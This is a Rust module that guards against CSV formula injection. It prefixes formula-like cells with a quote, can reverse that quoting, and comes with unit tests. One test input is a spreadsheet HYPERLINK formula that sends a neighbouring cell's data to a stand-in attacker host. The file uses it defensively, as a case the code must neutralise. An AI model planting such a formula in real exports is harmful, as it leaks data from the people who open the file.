//! CSV cells that are safe to open in Excel and WPS.
//!
//! A spreadsheet treats a cell that begins with `=`, `+`, `-`, `@`, a tab
//! or a carriage return as a formula (CSV injection: a provider's invoice
//! number `=HYPERLINK(…)` would run in the finance officer's Excel). Every
//! CSV this system writes passes its cells through `neutralise`, which puts
//! a single quote before such a cell (OWASP's guidance); a plain number
//! such as `-1234.56` is left alone, since it cannot be a formula and must
//! stay a number. Our own importer reverses it with `restore`, so an
//! exported registry re-imports unchanged — including a value that really
//! begins with a quote followed by one of those characters, which
//! `neutralise` quotes once more.
//!
//! Pure: no I/O.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
fn is_trigger(c: char) -> bool {
    matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r')
}

/// A plain decimal number (optionally negative, with a fraction): safe.
fn is_plain_number(cell: &str) -> bool {
    let digits = cell.strip_prefix('-').unwrap_or(cell);
    let mut parts = digits.splitn(2, '.');
    let whole = parts.next().unwrap_or("");
    let fraction = parts.next();
    !whole.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.is_none_or(|f| !f.is_empty() && f.bytes().all(|b| b.is_ascii_digit()))
}

/// Whether `restore` would take a quote off `cell`.
fn quoted(cell: &str) -> bool {
    let mut chars = cell.chars();
    chars.next() == Some('\'') && chars.next().is_some_and(|c| is_trigger(c) || c == '\'')
}

/// The cell as written to a CSV file.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let starts_formula = cell.chars().next().is_some_and(is_trigger) && !is_plain_number(cell);
    if starts_formula || quoted(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// A record's cells, neutralised.
pub fn neutralise_all<I, T>(cells: I) -> Vec<String>
where
    I: IntoIterator<Item = T>,
    T: AsRef<str>,
{
    cells
        .into_iter()
        .map(|cell| neutralise(cell.as_ref()).into_owned())
        .collect()
}

/// The value a CSV cell that `neutralise` wrote stands for.
pub fn restore(cell: &str) -> &str {
    if quoted(cell) { &cell[1..] } else { cell }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_quoted() {
        for cell in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&B2,\"查看发票\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
            "-",
            "=",
        ] {
            assert_eq!(neutralise(cell), format!("'{cell}"), "{cell:?}");
        }
    }

    #[test]
    fn ordinary_text_and_plain_numbers_are_unchanged() {
        for cell in [
            "舟山市海洋科技有限公司",
            "12345678",
            "-1234.56",
            "-5",
            "0.00",
            "¥1,000.00",
            "a=b",
            "",
            "'quoted",
        ] {
            assert_eq!(neutralise(cell), cell, "{cell:?}");
        }
    }

    #[test]
    fn restore_reverses_neutralise_for_every_value() {
        for cell in [
            "=1+1", "'=1+1", "''=1", "'", "''", "'a", "-1.5", "-x", "@me", "plain", "",
        ] {
            assert_eq!(restore(&neutralise(cell)), cell, "{cell:?}");
        }
    }

    #[test]
    fn a_neutralised_cell_never_starts_a_formula() {
        for cell in ["=1", "+1", "-x", "@x", "\t1", "\r1", "'=1"] {
            let written = neutralise(cell);
            assert!(
                !written.chars().next().is_some_and(is_trigger),
                "{written:?}"
            );
        }
    }
}
